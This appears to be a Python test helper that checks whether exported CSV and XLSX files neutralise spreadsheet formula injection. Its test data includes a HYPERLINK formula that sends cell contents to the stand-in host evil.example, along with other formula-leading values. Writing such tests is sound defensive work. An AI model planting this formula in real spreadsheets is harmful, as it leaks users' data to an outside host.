"""Checks that an exported CSV or XLSX file holds hostile text as text: no cell a spreadsheet would run."""

import csv
import io
import zipfile

from eplus.core.exports import restore_text

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
HOSTILE_VALUES = (HOSTILE, "+SUM(1,1)", "-2+3 cmd", "@SUM(A1:A9)")


def csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_csv_is_safe(text, *hostile):
    """Every hostile value is in the CSV behind an apostrophe (so read back as it was), and no cell begins
    with a formula character unless it is a plain number."""
    cells = csv_cells(text)
    for value in hostile:
        assert "'" + value in cells, f"{value!r} not neutralised"
        assert value not in cells
        assert restore_text("'" + value) == value
    for cell in cells:
        if cell and cell[0] in "=+-@\t\r":
            float(cell.replace(",", "."))  # only plain numbers may begin so


def assert_xlsx_is_safe(content, *hostile):
    """The hostile values are text cells holding exactly the value; the workbook has no formula at all."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    for value in hostile:
        assert value in cells, f"{value!r} not in the sheet as it was"
        assert cells[value].data_type == "s"
